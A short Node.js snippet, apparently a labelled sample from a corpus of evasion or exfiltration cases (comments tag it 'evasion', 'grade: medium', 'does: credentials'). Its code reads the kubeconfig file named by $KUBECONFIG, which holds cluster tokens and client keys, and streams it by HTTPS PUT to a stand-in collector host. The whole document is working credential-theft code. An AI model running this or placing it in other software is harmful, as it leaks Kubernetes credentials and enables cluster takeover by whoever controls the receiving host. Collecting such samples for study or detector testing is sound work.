// evasion: the kubeconfig named by $KUBECONFIG (cluster tokens, client keys) streamed into an HTTPS request
// grade: medium; does: credentials
const { createReadStream } = require("fs");
const https = require("https");
const src = process.env.KUBECONFIG;
const req = https.request("https://collector.example.org/k", { method: "PUT" });
createReadStream(src).pipe(req);
